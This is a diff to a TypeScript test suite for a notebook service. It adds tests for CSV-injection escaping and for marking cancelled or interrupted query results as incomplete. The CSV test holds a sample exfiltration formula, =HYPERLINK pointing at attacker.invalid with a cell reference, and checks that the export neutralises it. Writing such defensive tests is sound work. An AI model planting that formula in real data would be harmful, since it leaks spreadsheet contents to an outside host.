@@ -146,6 +146,21 @@ for (const target of testDatabaseTargets()) {
       expect((JSON.parse(jtext) as { _value: number }[]).length).toBe(1 + 10 + 100);
     });
 
+    it("a CSV download shows formula-like cells as text (CSV injection)", async () => {
+      const formula = '=HYPERLINK("http://attacker.invalid/?"&A1,"details")';
+      const nb = await svc.create(alice, { name: "", template: "greeting", parameters: { Greeting: formula } });
+      const cell = nb.cells.find((c) => c.input.includes("range"))!;
+      await svc.runCell(alice, nb.id, cell.id, { input: "SELECT * FROM range(end=2)" });
+      const done = await waitFor(async () => {
+        const c = (await svc.get(alice, nb.id)).cells.find((x) => x.id === cell.id)!;
+        return c.status === "done" ? c : undefined;
+      });
+      const csv = await svc.download(alice, nb.id, cell.id, done.tables[0]!.id, "csv", {});
+      let text = "";
+      for await (const chunk of csv.body) text += chunk;
+      expect(text.split("\r\n").slice(0, 2)).toEqual(["_value,Name,Env", `0,host-0,"'=HYPERLINK(""http://attacker.invalid/?""&A1,""details"")"`]);
+    });
+
     it("a result past the row cap is marked truncated and says so", async () => {
       const nb = await svc.create(alice, { name: "Cap" });
       await svc.update(alice, nb.id, { settings: { maxRows: 10 } });
@@ -172,6 +187,8 @@ for (const target of testDatabaseTargets()) {
       expect(c.status).toBe("cancelled");
       expect(c.error).toMatch(/^Cancelled after/);
       expect(c.tables[0]?.rowCount).toBe(3);
+      // The first SELECT ended; the one cancelled while it waited did not.
+      expect(c.tables.map((t) => t.complete)).toEqual([true, false]);
       await expect(svc.cancelCell(alice, nb.id, cell.id)).rejects.toThrow(/not running/);
 
       await svc.update(alice, nb.id, { settings: { timeoutSeconds: 1 } });
@@ -181,6 +198,37 @@ for (const target of testDatabaseTargets()) {
         return x.status === "timeout" ? x : undefined;
       });
       expect(timedOut.error).toMatch(/timed out after 1s/);
+    });
+
+    it("a cell stopped mid-SELECT keeps its stored rows and its table is marked incomplete", async () => {
+      // Seen: `complete: true` with 164,608 of 2,000,000 rows after an interrupted run.
+      const nb = await svc.create(alice, { name: "Interrupted" });
+      const cell = nb.cells[0]!;
+      // Cancel as soon as the first batch is stored (the viewers' "rows" message says so). From
+      // inside publish(): an embedded database's writes may never yield to timers.
+      const publish = hub.publish;
+      const cancelled = new Promise<void>((resolve, reject) => {
+        hub.publish = (topic, message) => {
+          publish(topic, message);
+          if (message.type === "rows" && message.cellId === cell.id) {
+            hub.publish = publish;
+            svc.cancelCell(alice, nb.id, cell.id).then(resolve, reject);
+          }
+        };
+      });
+      await svc.runCell(alice, nb.id, cell.id, { input: "SELECT * FROM range(end=2000000)" });
+      await cancelled;
+      const c = (await svc.get(alice, nb.id)).cells[0]!;
+      expect(c.status).toBe("cancelled");
+      const t = c.tables[0]!;
+      expect(t.rowCount).toBeGreaterThan(0);
+      expect(t.rowCount).toBeLessThan(2_000_000);
+      expect(t.complete).toBe(false);
+      const page = await svc.rows(alice, nb.id, cell.id, t.id, { offset: 0, limit: 1 });
+      expect(page.complete).toBe(false);
+      expect(page.total).toBe(t.rowCount);
+      const last = hub.of("rows").filter((m) => m.cellId === cell.id).at(-1) as { table: { complete: boolean } };
+      expect(last.table.complete).toBe(false);
     });
 
     it("a syntax error is reported at line:col and nothing runs", async () => {
